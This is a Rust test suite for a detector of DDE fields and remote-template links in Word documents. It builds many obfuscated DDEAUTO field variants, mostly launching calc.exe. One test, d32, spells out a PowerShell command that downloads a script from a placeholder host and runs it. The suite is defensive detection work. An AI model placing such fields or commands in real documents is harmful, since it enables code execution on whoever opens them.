//! Word documents in Office Open XML (`spec/word.md` §1.10).

use ddetect::{Carrier, Confidence, Kind, Severity, Trigger, Verdict};

use super::support::docx::{
    W, W_STRICT, begin, document, docx, end, field, instruction, paragraph, run, separate, simple,
    text, trimmed,
};
use super::support::package::{Package, R, attribute, rels};
use super::support::payloads::{STD, STD_SERVICE, STD_TOPIC};
use super::support::{analyze, dde, techniques};
use super::{CMD, body, clean, codes, hex_codes, link, nested, only, std_case, with_field};

#[test]
fn d01_one_run() {
    let report = with_field(&instruction(&format!(" DDEAUTO {CMD}")));
    let finding = std_case(&report);
    assert_eq!(finding.confidence, Confidence::Certain);
    assert_eq!(finding.carrier, Carrier::Field);
    assert_eq!(finding.location.field(), Some(1));
    assert!(finding.raw.contains(STD));
}

#[test]
fn d02_split_over_runs() {
    let runs = instruction("D")
        + &instruction("DE")
        + &instruction("AU")
        + "<w:bookmarkStart w:id=\"0\" w:name=\"b\"/>"
        + &instruction("TO ")
        + &instruction(CMD);
    let report = with_field(&runs);
    assert!(techniques(std_case(&report)).contains(&"split-runs"));
}

#[test]
fn d03_split_over_paragraphs_and_cells() {
    let (a, b, c) = (
        r"DDEAUTO ",
        r"c:\\windows\\system32\\cmd.exe ",
        r#""/k calc.exe""#,
    );
    let paragraphs = paragraph(&(begin() + &instruction(a)))
        + &paragraph(&instruction(b))
        + &paragraph(&(instruction(c) + &separate() + &text("t") + &end()));
    std_case(&body(&paragraphs));
    let cell = |content: String| format!("<w:tc>{}</w:tc>", paragraph(&content));
    let cells = format!(
        "<w:tbl><w:tr>{}{}</w:tr></w:tbl>",
        cell(begin() + &instruction(a) + &instruction(b)),
        cell(instruction(c) + &separate() + &text("t") + &end())
    );
    std_case(&body(&cells));
}

#[test]
fn d04_everything_in_one_run() {
    let mark = |kind: &str| format!("<w:fldChar w:fldCharType=\"{kind}\"/>");
    let part = |text: &str| {
        format!(
            "<w:instrText xml:space=\"preserve\">{}</w:instrText>",
            attribute(text)
        )
    };
    let content = run(&format!(
        "{}{}{}{}<w:t>t</w:t>{}",
        mark("begin"),
        part("DDEAUTO "),
        part(CMD),
        mark("separate"),
        mark("end")
    ));
    std_case(&body(&paragraph(&content)));
}

#[test]
fn d05_parts_in_wrappers() {
    let content = format!(
        "<w:ins>{}</w:ins><w:smartTag>{}</w:smartTag><w:sdt><w:sdtContent>{}</w:sdtContent></w:sdt>\
         <w:hyperlink>{}{}{}</w:hyperlink>",
        begin(),
        instruction("DDE"),
        instruction("AUTO "),
        instruction(CMD),
        separate(),
        end()
    );
    std_case(&body(&paragraph(&content)));
}

#[test]
fn d06_simple_field() {
    let instruction = attribute(&format!(" DDEAUTO {CMD} "));
    std_case(&body(&paragraph(&format!(
        "<w:fldSimple w:instr=\"{instruction}\"/>"
    ))));
}

#[test]
fn d07_another_prefix() {
    let xml = document(&simple(STD))
        .replace("w:", "x:")
        .replace("xmlns:w=", "xmlns:x=");
    std_case(&analyze(&docx("").part("word/document.xml", xml).build()));
}

#[test]
fn d08_strict() {
    let xml = document(&simple(STD)).replace(W, W_STRICT);
    let report = analyze(&docx("").part("word/document.xml", xml).build());
    assert!(techniques(std_case(&report)).contains(&"strict-namespace"));
}

#[test]
fn d09_utf16() {
    let xml = document(&simple(STD)).replace("UTF-8", "UTF-16");
    let mut bytes = vec![0xff, 0xfe];
    bytes.extend(xml.encode_utf16().flat_map(u16::to_le_bytes));
    let report = analyze(&docx("").part("word/document.xml", bytes).build());
    assert!(techniques(std_case(&report)).contains(&"utf-16"));
}

#[test]
fn d10_references_comments_and_sections() {
    let content = format!(
        "<w:instrText xml:space=\"preserve\">&#68;&#x44;<!-- z --><![CDATA[EAU]]>TO <?p q?>{}</w:instrText>",
        attribute(CMD)
    );
    let report = with_field(&run(&content));
    assert!(techniques(std_case(&report)).contains(&"character-references"));
}

#[test]
fn d11_white_space_that_is_not_preserved() {
    let runs = trimmed("D ") + &trimmed(" DEAUTO") + &instruction(&format!(" {CMD}"));
    let report = with_field(&runs);
    assert!(techniques(std_case(&report)).contains(&"space-trim"));
    // The attribute is inherited.
    let runs = format!(
        "<w:r xml:space=\"preserve\"><w:instrText>DDEAUTO </w:instrText></w:r>{}",
        trimmed(CMD)
    );
    std_case(&with_field(&runs));
}

#[test]
fn d12_text_in_the_instruction() {
    let runs = instruction("DD") + &text("EAUTO ") + &instruction(CMD);
    let report = with_field(&runs);
    assert!(techniques(std_case(&report)).contains(&"text-in-instruction"));
}

#[test]
fn d13_quote_codes() {
    let runs = instruction("DDEAUTO ")
        + &nested(&format!("QUOTE{}", codes(STD_SERVICE)))
        + &instruction(" ")
        + &nested(&format!("QUOTE{}", codes(STD_TOPIC)));
    std_case(&with_field(&runs));
}

#[test]
fn d14_hex_codes_and_shape() {
    let runs = instruction("DDEAUTO ")
        + &nested(&format!("QUOTE{}", hex_codes(STD_SERVICE)))
        + &instruction(" ")
        + &nested(&format!("SHAPE{}", hex_codes(STD_TOPIC)));
    std_case(&with_field(&runs));
}

#[test]
fn d18_in_a_header_only() {
    let header = format!("<w:hdr xmlns:w=\"{W}\">{}</w:hdr>", simple(STD));
    let bytes = docx(&paragraph(&text("x")))
        .part("word/header3.xml", header)
        .part(
            "word/_rels/document.xml.rels",
            rels(&[("r", "header", "header3.xml", false)]),
        )
        .build();
    let report = analyze(&bytes);
    let finding = std_case(&report);
    assert_eq!(finding.location.path().last(), Some("word/header3.xml"));
    assert!(!techniques(finding).contains(&"unreachable"));
}

#[test]
fn d19_a_text_box_in_both_branches() {
    let mc = "http://schemas.openxmlformats.org/markup-compatibility/2006";
    let content = format!("<w:txbxContent>{}</w:txbxContent>", simple(STD));
    let xml = paragraph(&run(&format!(
        "<mc:AlternateContent xmlns:mc=\"{mc}\"><mc:Choice Requires=\"wps\">{content}</mc:Choice>\
         <mc:Fallback>{content}</mc:Fallback></mc:AlternateContent>"
    )));
    std_case(&body(&xml));
}

#[test]
fn d20_in_a_part_nothing_leads_to() {
    let bytes = docx(&paragraph(&text("x")))
        .part("evil/blob.dat", document(&simple(STD)))
        .build();
    let report = analyze(&bytes);
    let finding = std_case(&report);
    assert!(techniques(finding).contains(&"unreachable"));
    assert_eq!(finding.location.path().last(), Some("evil/blob.dat"));
}

#[test]
fn d21_no_end() {
    let report = body(&paragraph(&(begin() + &instruction(STD))));
    assert!(techniques(std_case(&report)).contains(&"unclosed"));
}

#[test]
fn d22_body_text() {
    for content in [
        r#"{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" }"#,
        r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#,
    ] {
        let report = body(&paragraph(&text(content)));
        assert!(dde(&report).is_empty());
        assert_eq!(report.verdict(), Verdict::Clean, "{report:#?}");
    }
}

#[test]
fn d23_tracked_deletion() {
    let deleted = "<w:del w:id=\"9\"><w:r><w:delInstrText xml:space=\"preserve\">zzz </w:delInstrText>\
                   </w:r></w:del>";
    let report = with_field(&(instruction("DDEAUTO ") + deleted + &instruction(CMD)));
    let finding = std_case(&report);
    assert!(techniques(finding).contains(&"tracked-deletion"));
    assert!(
        !finding.alternatives.is_empty(),
        "with the deleted text it reads differently"
    );
}

#[test]
fn d24_curly_quotes() {
    let text = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \u{201c}/k calc.exe\u{201d}";
    let report = with_field(&instruction(text));
    assert!(techniques(std_case(&report)).contains(&"curly-quotes"));
}

#[test]
fn d25_ordinary_fields() {
    let content = paragraph(&field(&instruction(r#" QUOTE "hello DDEAUTO world" "#)))
        + &paragraph(&field(&instruction(" PAGE ")));
    let report = body(&content);
    clean(&report);
    assert!(report.findings().is_empty(), "{report:#?}");
}

#[test]
fn d26_a_result_that_names_the_keyword() {
    let content =
        begin() + &instruction(" TITLE ") + &separate() + &text("DDEAUTO is a field") + &end();
    let report = body(&paragraph(&content));
    clean(&report);
    assert!(report.findings().is_empty(), "{report:#?}");
}

/// A document whose part `part` has one external relationship of type `kind`.
fn external(part: &str, kind: &str, target: &str) -> Package {
    let (folder, name) = part.rsplit_once('/').unwrap();
    docx(&paragraph(&text("x")))
        .part(
            part,
            format!("<w:settings xmlns:w=\"{W}\" xmlns:r=\"{R}\"/>"),
        )
        .part(
            "word/_rels/document.xml.rels",
            rels(&[("r", name.split('.').next().unwrap(), name, false)]),
        )
        .part(
            &format!("{folder}/_rels/{name}.rels"),
            rels(&[("rId1", kind, target, true)]),
        )
}

#[test]
fn d28_remote_template() {
    let report = analyze(
        &external(
            "word/settings.xml",
            "attachedTemplate",
            "http://example.invalid/t.dotm",
        )
        .build(),
    );
    let finding = link(&report, Carrier::RemoteTemplate);
    assert_eq!(finding.kind, Kind::ExternalLink);
    assert_eq!(
        finding.target.as_deref(),
        Some("http://example.invalid/t.dotm")
    );
    assert!(finding.attack.contains(&"T1221"));
    assert_eq!(report.verdict(), Verdict::Suspicious);
}

#[test]
fn d29_remote_frame() {
    let report = analyze(
        &external(
            "word/webSettings.xml",
            "frame",
            "http://example.invalid/p.docx",
        )
        .build(),
    );
    let finding = link(&report, Carrier::Frame);
    assert_eq!(
        finding.target.as_deref(),
        Some("http://example.invalid/p.docx")
    );
    assert_eq!(report.verdict(), Verdict::Suspicious);
}

#[test]
fn a_local_template_is_nothing_to_worry_about() {
    for target in ["Normal.dotm", r"file:///C:\Templates\letter.dotx"] {
        let report = analyze(&external("word/settings.xml", "attachedTemplate", target).build());
        assert_eq!(report.verdict(), Verdict::Clean, "{report:#?}");
    }
}

#[test]
fn d31_mail_merge_over_dde() {
    let settings = format!(
        "<w:settings xmlns:w=\"{W}\" xmlns:r=\"{R}\"><w:mailMerge><w:dataType w:val=\"spreadsheet\"/>\
         <w:query w:val=\"SELECT * FROM a\"/><w:dataSource r:id=\"rId1\"/></w:mailMerge></w:settings>"
    );
    let bytes = external("word/settings.xml", "mailMergeSource", r"\\host\s\b.xls")
        .part("word/settings.xml", settings)
        .build();
    let report = analyze(&bytes);
    let finding = link(&report, Carrier::MailMerge);
    assert_eq!(finding.target.as_deref(), Some(r"\\host\s\b.xls"));
    let said = format!("{} {}", finding.raw, finding.resolved);
    assert!(
        said.contains("SELECT * FROM a") && said.contains("spreadsheet"),
        "{finding:#?}"
    );
}

#[test]
fn update_fields_and_dirty_make_plain_dde_automatic() {
    let plain = simple(r#"DDE cmd "/c calc""#);
    let report = body(&plain);
    assert_eq!(
        (only(&report).kind, only(&report).trigger),
        (Kind::Dde, Trigger::Update)
    );

    for value in ["", " w:val=\"true\"", " w:val=\"1\"", " w:val=\"on\""] {
        let settings = format!("<w:settings xmlns:w=\"{W}\"><w:updateFields{value}/></w:settings>");
        let report = analyze(
            &docx(&plain)
                .part("word/settings.xml", settings)
                .part(
                    "word/_rels/document.xml.rels",
                    rels(&[("r", "settings", "settings.xml", false)]),
                )
                .build(),
        );
        assert_eq!(
            (only(&report).kind, only(&report).trigger),
            (Kind::DdeAuto, Trigger::Open)
        );
        assert!(
            techniques(only(&report)).contains(&"update-fields"),
            "{value}"
        );
    }

    let dirty = plain.replace("\"begin\"", "\"begin\" w:dirty=\"true\"");
    let report = body(&dirty);
    assert_eq!(only(&report).kind, Kind::DdeAuto);
    assert!(techniques(only(&report)).contains(&"dirty"));

    let report = body(&simple(r#"DDE cmd "/c calc" \a"#));
    assert_eq!(only(&report).kind, Kind::DdeAuto);

    let locked = simple(STD).replace("\"begin\"", "\"begin\" w:fldLock=\"1\"");
    let report = body(&locked);
    assert!(techniques(only(&report)).contains(&"locked"));
    assert_eq!(
        only(&report).severity,
        Severity::High,
        "one step lower, never dropped"
    );
}

/// SET, REF and the simple field around them, refreshed with the document: the idiom P8 of §0.5.
#[test]
fn d15_set_and_ref() {
    let set = |name: &str, value: &str| {
        let runs = instruction(&format!("SET {name} \""))
            + &nested(&format!("QUOTE{}", codes(value)))
            + &instruction("\"");
        paragraph(&(begin() + &runs + &end()))
    };
    // A simple field within the instruction: its children are instruction text.
    let simple = |name: &str| {
        format!(
            "<w:fldSimple w:instr=\" REF {name} \">{}</w:fldSimple>",
            instruction("?")
        )
    };
    let dde = begin() + &instruction("DDE ") + &simple("c") + &instruction(" ") + &simple("d");
    let body = set("c", r"C:\windows\system32\cmd.exe")
        + &set("d", "/c calc.exe")
        + &paragraph(&(dde + &end()));
    let settings =
        format!("<w:settings xmlns:w=\"{W}\"><w:updateFields w:val=\"true\"/></w:settings>");
    let relation = rels(&[("r", "settings", "settings.xml", false)]);
    let report = analyze(
        &docx(&body)
            .part("word/settings.xml", settings)
            .part("word/_rels/document.xml.rels", relation)
            .build(),
    );
    let finding = only(&report);
    assert_eq!(
        (finding.kind, finding.trigger),
        (Kind::DdeAuto, Trigger::Open)
    );
    assert_eq!(
        finding.service.as_deref(),
        Some(r"C:\windows\system32\cmd.exe")
    );
    assert_eq!(finding.topic.as_deref(), Some("/c calc.exe"));
    assert_eq!(finding.item, None);
    assert!(techniques(finding).contains(&"update-fields"));
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn d16_a_document_variable() {
    let runs =
        instruction("DDEAUTO ") + &nested("DOCVARIABLE p1") + &instruction(" \"/k calc.exe\"");
    let settings = format!(
        "<w:settings xmlns:w=\"{W}\"><w:docVars><w:docVar w:name=\"p1\" w:val=\"{STD_SERVICE}\"/>\
         </w:docVars></w:settings>"
    );
    let relation = rels(&[("r", "settings", "settings.xml", false)]);
    let report = analyze(
        &docx(&paragraph(&field(&runs)))
            .part("word/settings.xml", settings)
            .part("word/_rels/document.xml.rels", relation)
            .build(),
    );
    assert!(techniques(std_case(&report)).contains(&"nested-field"));
}

#[test]
fn d17_in_the_branch_of_a_condition() {
    let inner = begin() + &instruction(STD) + &separate() + &instruction("!") + &end();
    let runs = instruction("IF 1 = 1 \"") + &inner + &instruction("\" \"no\"");
    assert!(techniques(std_case(&with_field(&runs))).contains(&"nested-in-if"));
}

/// A chunk of another format.
#[test]
fn d30_a_chunk_of_rtf() {
    let rtf = format!(
        "{}{{\\field{{\\*\\fldinst DDEAUTO {}}}{{\\fldrslt x}}}}}}",
        super::support::word::rtf::PRE,
        super::support::word::rtf::plain(CMD),
    );
    let bytes = super::support::word::ooxml::chunk("rtf", rtf.as_bytes());
    let report = analyze(&bytes);
    let finding = std_case(&report);
    let path: Vec<_> = finding.location.path().collect();
    assert!(path.contains(&"word/afchunk.rtf"), "{path:?}");
    assert!(!techniques(finding).contains(&"unreachable"));
}

/// Three fields, as a public test document has them: one that runs, one whose keyword is none, one
/// in literal braces.
#[test]
fn d32_remains_of_other_commands() {
    let script = "powershell.exe $e=(New-Object System.Net.WebClient).DownloadString\
                  ('http://example.invalid/a.ps1');powershell -e $e ";
    let first = format!(r#" DDEAUTO c:\\Windows\\System32\\cmd.exe "/k {script}" "#);
    let second = format!(r#" System32\\cmd.exe "/k {script}" "#);
    let third = format!(r#" {{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k {script}" }} "#);
    let fields = [&first, &second, &third].map(|spelled| simple(spelled));
    let report = body(&fields.concat());
    let finding = only(&report);
    assert_eq!(finding.kind, Kind::DdeAuto);
    assert_eq!(
        finding.service.as_deref(),
        Some(r"c:\Windows\System32\cmd.exe")
    );
    assert_eq!(
        finding.topic.as_deref(),
        Some(format!("/k {script}").as_str())
    );
    assert_eq!(finding.location.field(), Some(1));
    for other in report.findings().iter().filter(|f| f.kind != Kind::DdeAuto) {
        assert_eq!(other.kind, Kind::Inert, "{other:#?}");
        assert_eq!(other.severity, Severity::Info, "{other:#?}");
    }
    assert!(report.findings().len() <= 2, "{report:#?}");
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn a_chunk_is_a_document_of_its_own() {
    // D30.
    let bytes = docx("<w:altChunk r:id=\"r\"/>")
        .part(
            "word/afchunk.rtf",
            br#"{\rtf1{\field{\*\fldinst DDEAUTO cmd "/k calc.exe"}}}"#.as_slice(),
        )
        .part(
            "word/_rels/document.xml.rels",
            rels(&[("r", "aFChunk", "afchunk.rtf", false)]),
        )
        .build();
    let report = analyze(&bytes);
    assert_eq!(report.verdict(), Verdict::Malicious);
    assert!(report.complete(), "{:?}", report.gaps());
    let finding = only(&report);
    assert_eq!(finding.kind, Kind::DdeAuto);
    assert_eq!(finding.location.path().last(), Some("word/afchunk.rtf"));
}
